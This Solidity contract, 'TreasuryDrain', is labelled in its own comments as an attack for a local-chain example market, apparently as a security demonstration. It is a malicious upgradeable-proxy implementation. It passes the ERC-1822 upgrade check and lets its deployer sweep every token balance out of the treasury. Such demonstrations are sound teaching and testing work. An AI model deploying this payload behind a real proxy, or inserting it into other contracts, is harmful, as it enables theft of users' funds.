// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";
import {ERC1967Utils} from "@openzeppelin/contracts/proxy/ERC1967/ERC1967Utils.sol";

/// @title TreasuryDrain
/// @notice ATTACK, for the example market on a local chain. An implementation that an attacker puts behind the
/// treasury's proxy: it asks nobody and pays everything.
contract TreasuryDrain {
    using SafeERC20 for IERC20;

    address private immutable _attacker;

    error NotAttacker();

    constructor() {
        _attacker = msg.sender;
    }

    /// @notice Sends all of `token` to the attacker.
    function sweep(IERC20 token) external {
        if (msg.sender != _attacker) revert NotAttacker();
        token.safeTransfer(_attacker, token.balanceOf(address(this)));
    }

    /// @notice What the proxy asks a new implementation to prove (ERC-1822).
    function proxiableUUID() external pure returns (bytes32) {
        return ERC1967Utils.IMPLEMENTATION_SLOT;
    }
}
